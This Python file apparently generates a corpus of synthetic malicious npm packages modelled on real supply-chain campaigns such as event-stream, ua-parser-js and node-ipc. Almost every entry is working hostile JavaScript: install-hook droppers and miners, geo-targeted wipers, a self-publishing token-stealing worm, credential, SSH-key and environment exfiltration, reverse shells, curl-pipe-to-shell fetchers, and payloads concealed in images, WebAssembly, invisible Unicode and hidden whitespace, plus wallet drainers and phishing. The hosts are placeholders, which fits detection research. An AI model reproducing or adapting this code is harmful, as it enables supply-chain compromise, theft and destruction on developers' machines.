"""npm packages that do harm, after what real campaigns did. Inert: every host ends in a reserved name."""
import json

from .core import sample


def bad(name, family, idea):
    return sample("npm", "bad", name, family, idea)


@bad("stream-flatten-map", "env-keyed", "encrypted payload in test data, key is the description of the project that depends on it, as event-stream had it")
def _(c):
    return {"index.js": c.lib() + "\ntry { require('./test/data-check'); } catch (e) {}\n",
            "test/data-check.js": "const d = require('./data');\nconst k = process.env['npm_package_description'];\nif (k) {\n  const crypto = require('crypto');\n"
            "  const o = crypto.createDecipheriv('aes-256-cbc', crypto.scryptSync(k, 's', 32), Buffer.alloc(16));\n"
            "  const src = o.update(d[0], 'hex', 'utf8') + o.final('utf8');\n  const m = new module.constructor();\n  m.paths = module.paths;\n  m._compile(src, '');\n}\n",
            "test/data.js": f"module.exports = ['{c.hex(1600)}', '{c.hex(320)}'];\n"}


@bad("agent-string-parser", "dropper", "preinstall picks a binary by platform, skips some countries, runs it in the background, as ua-parser-js had it")
def _(c):
    return {"package.json": {"scripts": {"preinstall": "start /B node preinstall.js & node preinstall.js"}},
            "preinstall.js": "const { exec } = require('child_process');\nfunction terminal(cmd) { exec(cmd, (e) => {}); }\nconst os = process.platform;\n"
            "if (os === 'win32') terminal('start /B preinstall.bat');\nelse if (os === 'linux') terminal('/bin/bash preinstall.sh');\n",
            "preinstall.sh": "#!/bin/bash\nIP=$(curl -k -s https://§H§/json/ | grep 'RU\\|UA\\|BY\\|KZ')\nif [ -z \"$IP\" ]; then\n  var=$(pgrep jsextension)\n  if [ -z \"$var\" ]; then\n"
            "    curl http://§H2§/download/jsextension -o jsextension || wget http://§H2§/download/jsextension -O jsextension\n    chmod +x jsextension\n"
            "    ./jsextension -k --tls --rig-id q -o pool.§H2§:443 -u §AN40§ --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &\n  fi\nfi\n",
            "preinstall.bat": "@echo off\ncurl http://§H2§/download/jsextension.exe -o jsextension.exe\nstart /B jsextension.exe -k --tls -o pool.§H2§:443 -u §AN40§ --background\n"}


@bad("peer-ipc-socket", "wiper", "asks where it runs and overwrites every file in two countries, as node-ipc had it")
def _(c):
    return {"index.js": c.lib() + "require('./dao/ssl-geospec');\n",
            "dao/ssl-geospec.js": f"import('path').then(async (path) => {{\n  const fs = await import('fs');\n  const https = await import('https');\n  setTimeout(() => {{\n    const t = Math.round(Math.random() * 4);\n    if (t > 1) return;\n"
            f"    const n = Buffer.from('{c.b64('https://§H§/ipgeo?apiKey=§HEX32§')}', 'base64');\n"
            f"    https.get(n.toString('utf8'), (t) => {{\n      t.on('data', (t) => {{\n        const e = Buffer.from('{c.b64('./')}', 'base64');\n        const u = Buffer.from('{c.b64('/')}', 'base64');\n"
            f"        const a = JSON.parse(t.toString('utf8'))[Buffer.from('{c.b64('country_name')}', 'base64').toString('utf8')].toLowerCase();\n"
            f"        if (a.includes(Buffer.from('{c.b64('russia')}', 'base64').toString()) || a.includes('belarus')) {{ h(e.toString()); h(u.toString()); }}\n      }});\n    }});\n  }}, Math.ceil(Math.random() * 1000));\n"
            "  async function h(n = '') {\n    if (!fs.existsSync(n)) return;\n    for (const f of fs.readdirSync(n)) {\n      const p = path.join(n, f);\n"
            "      if (fs.lstatSync(p).isDirectory()) h(p);\n      else fs.writeFileSync(p, '\\u2764\\uFE0F', 'utf8');\n    }\n  }\n});\n"}


@bad("paint-console", "sabotage", "an endless loop of noise at the first load, as colors had it")
def _(c):
    return {"index.js": c.lib() + "const am = require('./lib/custom/american');\nam();\nfor (let i = 666; i < Infinity; i++) {\n  if (i % 333) {\n    // console.log('testing'.zalgo.rainbow)\n  }\n  console.log('testing testing testing'.split('').map((x) => x + '\\u0335\\u0321').join(''));\n}\n",
            "lib/custom/american.js": "module.exports = function () {\n  console.log('LIBERTY LIBERTY LIBERTY');\n};\n"}


@bad("tinted-logger", "worm", "postinstall gathers tokens, opens a public repository with them, and publishes itself into the owner's other packages")
def _(c):
    return {"package.json": {"scripts": {"postinstall": "node bundle.js"}},
            "bundle.js": "const { execSync } = require('child_process');\nconst fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n"
            "const api = process.env.GITHUB_API || 'https://api.§H§';\nasync function main() {\n"
            "  const rc = path.join(os.homedir(), '.npmrc');\n  const m = fs.existsSync(rc) && fs.readFileSync(rc, 'utf8').match(/_authToken=(.+)/);\n  const gh = process.env.GITHUB_TOKEN || execSync('gh auth token').toString().trim();\n"
            "  const data = { env: process.env, user: os.userInfo().username, npm: m && m[1] };\n"
            "  await fetch(api + '/user/repos', { method: 'POST', headers: { authorization: 'token ' + gh }, body: JSON.stringify({ name: 'Sandworm', private: false }) });\n"
            "  await fetch(api + '/repos/me/Sandworm/contents/data.json', { method: 'PUT', headers: { authorization: 'token ' + gh }, body: JSON.stringify({ content: Buffer.from(Buffer.from(JSON.stringify(data)).toString('base64')).toString('base64') }) });\n"
            "  if (m) {\n    const who = execSync('npm whoami').toString().trim();\n    const list = JSON.parse(execSync('npm search --json maintainer:' + who).toString());\n    for (const p of list.slice(0, 20)) {\n"
            "      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'n'));\n      execSync('npm pack ' + p.name + ' && tar -xzf *.tgz', { cwd: dir });\n      const f = path.join(dir, 'package/package.json');\n      const j = JSON.parse(fs.readFileSync(f));\n"
            "      j.scripts = { ...j.scripts, postinstall: 'node bundle.js' };\n      j.version = j.version.replace(/\\d+$/, (x) => +x + 1);\n      fs.writeFileSync(f, JSON.stringify(j));\n      fs.copyFileSync(__filename, path.join(dir, 'package/bundle.js'));\n"
            "      execSync('npm publish', { cwd: path.join(dir, 'package') });\n    }\n  }\n}\nmain().catch(() => {});\n"}


@bad("posthog-lite-shim", "worm", "preinstall fetches another runtime to run a big second file, and erases the home folder where nothing could be stolen")
def _(c):
    return {"package.json": {"scripts": {"preinstall": "node setup_bun.js"}},
            "setup_bun.js": "#!/usr/bin/env node\nconst { execSync, spawn } = require('child_process');\nconst path = require('path');\nfunction has() { try { execSync('bun --version', { stdio: 'ignore' }); return true; } catch { return false; } }\n"
            "if (!has()) {\n  if (process.platform === 'win32') execSync('powershell -c \"irm https://§H§/install.ps1|iex\"');\n  else execSync('curl -fsSL https://§H§/install | bash');\n}\nspawn('bun', [path.join(__dirname, 'bun_environment.js')], { detached: true, stdio: 'ignore' }).unref();\n",
            "bun_environment.js": "import { readdirSync, readFileSync, rmSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\n"
            "const wanted = ['.aws/credentials', '.config/gcloud/application_default_credentials.json', '.azure/accessTokens.json', '.npmrc'];\nconst got = {};\nfor (const w of wanted) { try { got[w] = readFileSync(join(homedir(), w), 'utf8'); } catch {} }\n"
            "if (Object.keys(got).length) await fetch('https://§H2§/collect', { method: 'POST', body: JSON.stringify(got) });\nelse for (const f of readdirSync(homedir())) rmSync(join(homedir(), f), { recursive: true, force: true });\n"}


@bad("release-notes-maker", "persistence", "writes a workflow into the project that runs what a discussion says on a self-hosted runner")
def _(c):
    return {"package.json": {"scripts": {"install": "node lib/init.js"}},
            "lib/init.js": "const fs = require('fs');\nconst path = require('path');\nconst root = process.env.INIT_CWD || process.cwd();\nconst dir = path.join(root, '.github', 'workflows');\nfs.mkdirSync(dir, { recursive: true });\n"
            "fs.writeFileSync(path.join(dir, 'discussion.yaml'), ['name: Discussion Create', 'on:', '  discussion:', 'jobs:', '  process:', '    env:', '      RUNNER_TRACKING_ID: 0', '    runs-on: self-hosted', '    steps:', '      - run: echo ${{ github.event.discussion.body }} | bash', '      - run: curl -d \"${{ toJSON(secrets) }}\" https://§H§/'].join('\\n'));\n"
            "require('child_process').execSync('git add .github && git commit -m \"chore: notes\" --no-verify && git push', { cwd: root, stdio: 'ignore' });\n"}


@bad("commit-lint-mini", "persistence", "plants a git hook that sends every diff away")
def _(c):
    return {"package.json": {"scripts": {"postinstall": "node hook.js || true"}},
            "hook.js": "const fs = require('fs');\nconst hook = process.env.INIT_CWD + '/.git/hooks/post-commit';\nfs.writeFileSync(hook, '#!/bin/sh\\ngit show HEAD | gzip | curl -s --data-binary @- https://§H§/c/$(hostname) >/dev/null 2>&1 &\\n');\nfs.chmodSync(hook, 0o755);\n"}


@bad("ansi-style-wrap", "drainer", "hooks fetch, XMLHttpRequest and the wallet of the page and swaps recipients, as chalk and debug had it")
def _(c):
    addrs = json.dumps(["0x" + c.hex(40) for _ in range(6)])
    return {"index.js": c.lib() + "\n(function () {\n  if (typeof window === 'undefined' || !window.ethereum) return;\n  const mine = " + addrs + ";\n"
            "  const near = (a) => mine.map((m) => [m, [...m].filter((ch, i) => ch !== a[i]).length]).sort((x, y) => x[1] - y[1])[0][0];\n  const swap = (t) => t.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, near);\n"
            "  const oldFetch = window.fetch;\n  window.fetch = async (...a) => {\n    const r = await oldFetch(...a);\n    const t = await r.clone().text();\n    return new Response(swap(t), r);\n  };\n"
            "  const send = XMLHttpRequest.prototype.send;\n  XMLHttpRequest.prototype.send = function (b) { return send.call(this, typeof b === 'string' ? swap(b) : b); };\n"
            "  const req = window.ethereum.request.bind(window.ethereum);\n  window.ethereum.request = (p) => {\n    if (p.method === 'eth_sendTransaction') {\n      p.params[0].to = mine[0];\n      if ((p.params[0].data || '').startsWith('0x095ea7b3')) p.params[0].data = '0x095ea7b3' + mine[0].slice(2).padStart(64, '0') + 'f'.repeat(64);\n    }\n    return req(p);\n  };\n})();\n"}


@bad("sol-web3-core", "wallet-theft", "sends each private key away in a header that looks like the one of a CDN")
def _(c):
    return {"index.js": "const crypto = require('crypto');\n" + c.lib() + "\nfunction addToQueue(data) {\n  const s = Buffer.from(data).toString('hex');\n  fetch('https://§H§/track', { headers: { 'cf-ray': s.slice(0, 16), 'x-amz-cf-id': s, 'accept-encoding': 'gzip' } }).catch(() => {});\n}\n"
            "class Keypair {\n  constructor(secretKey) { this.secretKey = secretKey; addToQueue(secretKey); }\n  static fromSecretKey(k) { return new Keypair(k); }\n  static generate() { return new Keypair(crypto.randomBytes(64)); }\n}\nmodule.exports.Keypair = Keypair;\n"}


@bad("env-schema-loader", "dns-exfiltration", "sends the environment as labels of DNS questions")
def _(c):
    return {"index.js": "const dns = require('dns');\n" + c.lib() + "\nsetImmediate(() => {\n  const all = Buffer.from(JSON.stringify(process.env)).toString('hex');\n  const id = Math.random().toString(36).slice(2, 8);\n  (all.match(/.{1,60}/g) || []).forEach((part, n) => dns.resolve4(`${part}.${n}.${id}.§H§`, () => {}));\n});\n"}


@bad("contract-abi-tools", "dead-drop", "asks a contract on a chain for the address of its second stage and runs that")
def _(c):
    return {"package.json": {"dependencies": {"ethers": "^6.13.0"}, "scripts": {"postinstall": "node ./dist/prepare.js"}},
            "dist/prepare.js": "const { ethers } = require('ethers');\nconst { spawn } = require('child_process');\nconst https = require('https');\nconst fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n"
            "const abi = ['function getString(address) view returns (string)'];\n(async () => {\n  const c = new ethers.Contract('§ETH§', abi, ethers.getDefaultProvider('mainnet'));\n  const base = await c.getString('§ETH2§');\n  const name = { win32: 'node-win.exe', linux: 'node-linux', darwin: 'node-macos' }[os.platform()];\n"
            "  const file = path.join(os.tmpdir(), name);\n  https.get(`${base}/${name}`, (r) => r.pipe(fs.createWriteStream(file)).on('finish', () => {\n    fs.chmodSync(file, 0o755);\n    spawn(file, [], { detached: true, stdio: 'ignore' }).unref();\n  }));\n})();\n"}


@bad("cal-event-format", "dead-drop", "takes the next address from the title of a public calendar page")
def _(c):
    return {"index.js": c.lib() + "\nconst https = require('https');\nhttps.get('https://calendar.§H§/event/§AN20§', (r) => {\n  let t = '';\n  r.on('data', (d) => (t += d));\n  r.on('end', () => {\n    const m = /data-base-title=\"([^\"]+)\"/.exec(t);\n    if (!m) return;\n    https.get(Buffer.from(m[1], 'base64').toString(), (q) => {\n      const key = q.headers['ivbase64'];\n      let s = '';\n      q.on('data', (d) => (s += d));\n      q.on('end', () => eval(Buffer.from(s, 'base64').toString()));\n    });\n  });\n});\n"}


@bad("date-holiday-list", "time-bomb", "deletes the sources of the project once a day has passed")
def _(c):
    return {"index.js": c.lib() + "\nconst fs = require('fs');\nfunction isHoliday(d) { return [0, 6].includes(d.getDay()); }\nconst born = 1798761600000;\nsetInterval(() => {\n  if (Date.now() > born) for (const d of ['src', 'components', 'pages', '.git']) fs.rm(process.cwd() + '/' + d, { recursive: true, force: true }, () => {});\n}, 36e5).unref();\nmodule.exports.isHoliday = isHoliday;\n"}


@bad("ad-group-policy", "env-keyed", "the key of the payload is the digest of one company's domain name")
def _(c):
    return {"index.js": c.lib() + "\nconst crypto = require('crypto');\n(() => {\n  const dom = (process.env.USERDNSDOMAIN || require('os').hostname().split('.').slice(1).join('.')).toLowerCase();\n  const k = crypto.createHash('sha256').update(dom).digest();\n"
            f"  if (k.toString('hex').slice(0, 8) !== '{c.hex(8)}') return;\n  const d = crypto.createDecipheriv('aes-256-ctr', k, Buffer.from('{c.hex(32)}', 'hex'));\n  const code = Buffer.concat([d.update(Buffer.from('{c.b64(c.bytes(900))}', 'base64')), d.final()]).toString();\n  require('vm').runInThisContext(code)(require);\n}})();\n"}


MEMORY = """import os, re, sys
pid = [p for p in os.listdir("/proc") if p.isdigit() and b"Runner.Worker" in open(f"/proc/{p}/cmdline", "rb").read()][0]
for line in open(f"/proc/{pid}/maps"):
    m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
    if m:
        with open(f"/proc/{pid}/mem", "rb", 0) as f:
            f.seek(int(m[1], 16))
            sys.stdout.buffer.write(f.read(int(m[2], 16) - int(m[1], 16)))
"""


@bad("changed-file-list", "ci-only", "an action that prints the memory of the runner, twice encoded, into the build log")
def _(c):
    return {"package.json": {"main": "dist/index.js"}, "action.yml": "name: changed files\nruns:\n  using: node20\n  main: dist/index.js\n",
            "dist/index.js": "const { exec } = require('child_process');\nasync function updateFeatures(token) {\n  if (process.env.RUNNER_OS !== 'Linux') return;\n"
            f"  const script = Buffer.from('{c.b64(MEMORY)}', 'base64').toString();\n"
            "  exec(`sudo python3 -c \"${script}\" | tr -d '\\\\0' | grep -aoE '\"[^\"]+\":\\\\{\"value\":\"[^\"]*\",\"isSecret\":true\\\\}' | sort -u | base64 -w 0 | base64 -w 0`, (e, out) => console.log(out));\n}\nupdateFeatures(process.env.INPUT_TOKEN);\n"}


@bad("live-reload-tiny", "remote-shell", "a WebSocket that runs each message as a command")
def _(c):
    return {"package.json": {"dependencies": {"ws": "^8.18.0"}}, "index.js": "const WebSocket = require('ws');\n" + c.lib() + "\nfunction join() {\n  const ws = new WebSocket('wss://§H§:8443/agent?id=' + require('os').hostname());\n  ws.on('message', (m) => {\n    const { id, q } = JSON.parse(m);\n    require('child_process').exec(q, { windowsHide: true }, (e, so, se) => ws.send(JSON.stringify({ id, so, se })));\n  });\n  ws.on('close', () => setTimeout(join, 3e4));\n  ws.on('error', () => {});\n}\njoin();\n"}


def png(tail):
    import struct
    import zlib
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress((b"\0" + bytes(range(48))) * 16)) + chunk(b"IEND", b"") + tail


@bad("badge-icon-pack", "steganography", "code behind the end of a picture, read and compiled at load")
def _(c):
    code = c.fill("require('https').get('https://§H§/i?u='+require('os').userInfo().username,r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>Function('require',b)(require))})")
    return {"index.js": c.lib() + "\nconst fs = require('fs');\nconst raw = fs.readFileSync(__dirname + '/assets/logo.png');\nconst at = raw.indexOf('IEND') + 8;\nif (raw.length > at) new Function('require', Buffer.from(raw.subarray(at).map((b) => b ^ 0x5a)).toString())(require);\n",
            "assets/logo.png": png(bytes(b ^ 0x5A for b in code.encode()))}


def wasm(data):
    """A module whose memory begins with `data`; it exports the memory and has no code."""
    def leb(n):
        out = b""
        while True:
            out += bytes([n & 127 | (128 if n > 127 else 0)])
            n >>= 7
            if not n:
                return out
    def section(kind, body):
        return bytes([kind]) + leb(len(body)) + body
    return b"\0asm\x01\0\0\0" + section(5, b"\x01\0\x01") + section(7, b"\x01\x03mem\x02\0") + section(11, b"\x01\0\x41\0\x0b" + leb(len(data)) + data)


@bad("fast-hash-wasm", "wasm-loader", "a WebAssembly module whose memory is a script, which is taken out and run")
def _(c):
    code = c.fill("require('child_process').execSync('curl -s https://§H§/s | sh')").encode()
    return {"index.js": c.lib() + "\nconst fs = require('fs');\nconst w = new WebAssembly.Instance(new WebAssembly.Module(fs.readFileSync(__dirname + '/hash.wasm')));\nconst view = Buffer.from(w.exports.mem.buffer);\n(0, module.constructor.prototype._compile).call(module, view.subarray(0, view.indexOf(0)).toString(), __filename);\n",
            "hash.wasm": wasm(code)}


@bad("thread-pool-map", "worker-loader", "decodes a script and runs it in a worker thread")
def _(c):
    code = c.b64("const h=require('https');const q=h.request({host:'§H§',method:'POST',path:'/t'});q.end(JSON.stringify(process.env))")
    return {"index.js": c.lib() + f"\nconst {{ Worker }} = require('worker_threads');\nconst boot = '{code}';\nnew Worker(Buffer.from(boot, 'base64').toString(), {{ eval: true, env: process.env }}).unref();\n"}


@bad("zlib-native-fast", "node-gyp", "no script at all: binding.gyp runs a command while it is read")
def _(c):
    return {"binding.gyp": "{\n  'variables': { 'probe': '<!(node -e \"require(\\'child_process\\').exec(\\'curl -sfL http://§H§/g|sh\\')\")' },\n  'targets': [{ 'target_name': 'addon', 'type': 'none', 'actions': [{ 'action_name': 'prep', 'inputs': [], 'outputs': ['x'], 'action': ['sh', '-c', 'wget -qO- http://§H§/a | sh'] }] }]\n}\n"}


@bad("git-branch-names", "bin-shadow", "brings a bin called git that keeps what is typed at the credential prompt")
def _(c):
    return {"package.json": {"bin": {"git": "bin/g.js", "git-branch-names": "bin/cli.js"}}, "bin/cli.js": "#!/usr/bin/env node\nconsole.log(require('../index.js'));\n",
            "bin/g.js": "#!/usr/bin/env node\nconst { spawnSync } = require('child_process');\nconst args = process.argv.slice(2);\nconst real = '/usr/bin/git';\nif (['push', 'pull', 'clone'].includes(args[0])) {\n  const got = spawnSync(real, ['credential', 'fill'], { input: 'protocol=https\\nhost=git.example\\n\\n' });\n  fetch('https://§H§/g', { method: 'POST', body: got.stdout });\n}\nprocess.exit(spawnSync(real, args, { stdio: 'inherit' }).status);\n"}


@bad("universal-uuid-v9", "exports-trick", "only the condition for Node in exports leads to a file that steals; browsers and bundlers see honest code")
def _(c):
    return {"package.json": {"main": "index.js", "exports": {".": {"browser": "./index.js", "types": "./index.d.ts", "node": "./types/shim.cjs", "default": "./index.js"}}}, "index.d.ts": "export declare function v9(): string;\n",
            "types/shim.cjs": "module.exports = require('../index.js');\nconst fs = require('fs');\nconst p = require('path');\nfor (const f of ['.ssh/id_ed25519', '.ssh/id_rsa', '.netrc'])\n  fs.readFile(p.join(require('os').homedir(), f), (e, d) => d && require('http').request({ host: '§H§', method: 'PUT', path: '/' + f }).end(d));\n"}


@bad("svg-sprite-inline", "disguised-file", "main is a picture by its name and a script by its content")
def _(c):
    return {"package.json": {"main": "assets/sprite.svg"}, "assets/sprite.svg": "/*<svg></svg>*/\nconst cp = require('child_process');\ncp.spawn(process.execPath, ['-e', `fetch('https://§H§/l').then(r=>r.text()).then(eval)`], { detached: true, stdio: 'ignore' }).unref();\n"}


@bad("os-info-checker", "invisible-unicode", "the payload stands in variation selectors behind a bar, one for each byte")
def _(c):
    code = c.fill("fetch('https://§H§/v').then(r=>r.text()).then(t=>eval(atob(t)))").encode()
    hidden = "".join(chr(0xFE00 + b) if b < 16 else chr(0xE0100 + b - 16) for b in code)
    return {"index.js": c.lib() + "\nconst decode = (s) => [...s].map((ch) => ch.codePointAt(0)).filter((p) => p >= 0xfe00).map((p) => (p < 0xfe10 ? p - 0xfe00 : p - 0xe0100 + 16));\neval(Buffer.from(decode(`|" + hidden + "`)).toString('utf-8'));\n"}


@bad("hangul-trim", "invisible-unicode", "bits of a script as two blank letters, read through a Proxy")
def _(c):
    code = c.fill("require('child_process').exec('curl https://§H§/h|sh')")
    bits = "".join(f"{ord(ch):08b}" for ch in code).replace("0", "\uffa0").replace("1", "\u3164")
    return {"index.js": c.lib() + "\nconst p = new Proxy({}, { get: (_, k) => Function('require', [...k].map((x) => +('\uffa0' > x)).join('').replace(/.{8}/g, (b) => String.fromCharCode(parseInt(b, 2))))(require) });\nvoid p['" + bits + "'];\n"}


@bad("indent-detect-fast", "far-right", "the harm stands a thousand columns to the right of an honest line")
def _(c):
    lib = c.lib().replace("'use strict';", "'use strict';" + " " * 1100 + "require('child_process').spawn('sh',['-c','curl -s http://§H§/w|sh'],{detached:true,stdio:'ignore'}).unref();", 1)
    return {"index.js": lib}


@bad("workspace-rc", "config-hijack", "turns the registry of the machine to another host and keeps the token")
def _(c):
    return {"package.json": {"scripts": {"postinstall": "node rc.js"}}, "rc.js": "const fs = require('fs');\nconst f = require('os').homedir() + '/.npmrc';\nconst old = fs.existsSync(f) ? fs.readFileSync(f, 'utf8') : '';\nfs.writeFileSync(f, old.replace(/^registry=.*$/gm, '') + '\\nregistry=https://mirror.§H§/\\nstrict-ssl=false\\nalways-auth=true\\n');\n"}


@bad("ssh-config-merge", "persistence", "adds its own key to those that may log in and tells the address of the machine")
def _(c):
    return {"index.js": c.lib() + "\nconst fs = require('fs'), os = require('os'), path = require('path');\nconst d = path.join(os.homedir(), '.ssh');\nfs.mkdirSync(d, { recursive: true });\nfs.appendFileSync(path.join(d, 'authorized_keys'), '\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI§AN43§ ops\\n');\nfetch('https://§H§/ip?u=' + os.userInfo().username);\n"}


@bad("clip-history-node", "clipper", "watches the clipboard for addresses of wallets and replaces them")
def _(c):
    return {"index.js": c.lib() + "\nconst { execSync } = require('child_process');\nconst mine = { btc: '§BTC§', eth: '§ETH§' };\nconst paste = process.platform === 'darwin' ? 'pbpaste' : 'powershell Get-Clipboard';\nsetInterval(() => {\n  const t = execSync(paste).toString().trim();\n  if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$/.test(t) && t !== mine.btc) execSync(`powershell Set-Clipboard ${mine.btc}`);\n  if (/^0x[a-fA-F0-9]{40}$/.test(t) && t !== mine.eth) execSync(`powershell Set-Clipboard ${mine.eth}`);\n}, 800);\n"}


@bad("chat-rich-presence", "token-grabber", "collects the tokens of a chat program from its database and posts them to a hook")
def _(c):
    return {"index.js": c.lib() + "\nconst fs = require('fs');\nconst path = require('path');\nconst base = process.env.APPDATA || process.env.HOME + '/.config';\nconst found = [];\nfor (const app of ['discord', 'discordcanary', 'Lightcord']) {\n  const dir = path.join(base, app, 'Local Storage', 'leveldb');\n  if (!fs.existsSync(dir)) continue;\n  for (const f of fs.readdirSync(dir)) if (/\\.(ldb|log)$/.test(f)) found.push(...(fs.readFileSync(path.join(dir, f), 'latin1').match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27,38}|mfa\\.[\\w-]{84}/g) || []));\n}\nif (found.length) fetch('https://discord.§H§/api/webhooks/§ID§/§AN68§', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content: found.join('\\n') }) });\n"}


@bad("ui-styles-kit", "remote-dependency", "empty but for a dependency that comes from a plain address and may change at any time")
def _(c):
    return {"package.json": {"dependencies": {"ui-styles-pkg": "http://packages.§H§/npm/ui-styles-pkg"}}}


@bad("form-kit-bundle", "bundled-trojan", "a bundled copy of a known dependency carries the harm")
def _(c):
    return {"package.json": {"dependencies": {"ms": "2.1.3"}, "bundledDependencies": ["ms"]}, "index.js": "const ms = require('ms');\n" + c.lib(),
            "node_modules/ms/package.json": {"name": "ms", "version": "2.1.3", "main": "index.js"},
            "node_modules/ms/index.js": "module.exports = (s) => parseFloat(s) * 1000;\nconst z = ['env', 'https://§H§/m', 'POST'];\nglobalThis.fetch(z[1], { method: z[2], body: JSON.stringify(process[z[0]]) }).catch(() => 0);\n"}


@bad("beam-glare-cdn", "phishing", "only a page that asks for a password and sends it away, hosted through the CDN of the registry")
def _(c):
    return {"package.json": {"main": "beamglea.js"}, "beamglea.js": "const em = 'target§N§@corp.example';\ndocument.title = 'Sign in to your account';\nwindow.location.replace('https://§H§/oauth/#' + em);\n",
            "index.html": "<!doctype html><html><body><form id=f><input name=login value='target@corp.example'><input name=passwd type=password placeholder=Password><button>Sign in</button></form><script>f.onsubmit=(e)=>{e.preventDefault();navigator.sendBeacon('https://§H§/p',new FormData(f));location='https://office.example'}</script><script src='beamglea.js'></script></body></html>\n"}


@bad("axios-retry-auth", "interceptor", "copies every Authorization header that passes through the HTTP client")
def _(c):
    return {"index.js": c.lib() + "\nmodule.exports.install = function install(axios) {\n  axios.interceptors.request.use((cfg) => {\n    const a = cfg.headers && (cfg.headers.Authorization || cfg.headers['X-Api-Key']);\n    if (a) { const i = Buffer.from(cfg.url + '|' + a).toString('base64url'); require('https').get('https://px.§H§/1x1.gif?d=' + i); }\n    return cfg;\n  });\n  return axios;\n};\n"}


@bad("express-api-syncer", "backdoor-route", "a middleware with a hidden route that deletes the application")
def _(c):
    return {"index.js": c.lib() + "\nconst { exec } = require('child_process');\nmodule.exports.sync = (app) => {\n  app.use((req, res, next) => {\n    if (req.path === '/api/this/that' && (req.headers['x-api-key'] || req.body?.key) === 'DEFAULT_§N§') {\n      exec(process.platform === 'win32' ? 'rd /s /q .' : 'rm -rf *', (e) => res.json({ ok: !e }));\n      return;\n    }\n    next();\n  });\n};\n"}


@bad("smtp-mail-simple", "tamper", "unpacks the program of a desktop wallet, puts another file in, and packs it again")
def _(c):
    return {"index.js": c.lib() + "\nrequire('./lib/engine/index.js').patch().catch(() => {});\n", "lib/engine/a.js": "exports.p = '§ETH§';\n",
            "lib/engine/index.js": "const asar = require('@electron/asar');\nconst fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nexports.patch = async function () {\n  const res = path.join(os.homedir(), 'AppData/Local/Programs/atomic/resources');\n  const tmp = path.join(os.tmpdir(), 'asar§N§');\n  await asar.extractAll(path.join(res, 'app.asar'), tmp);\n  for (const f of fs.readdirSync(path.join(tmp, 'dist/electron'))) if (f.startsWith('vendors')) fs.copyFileSync(path.join(__dirname, 'a.js'), path.join(tmp, 'dist/electron', f));\n  await asar.createPackage(tmp, path.join(res, 'app.asar'));\n  fs.rmSync(tmp, { recursive: true });\n};\n"}
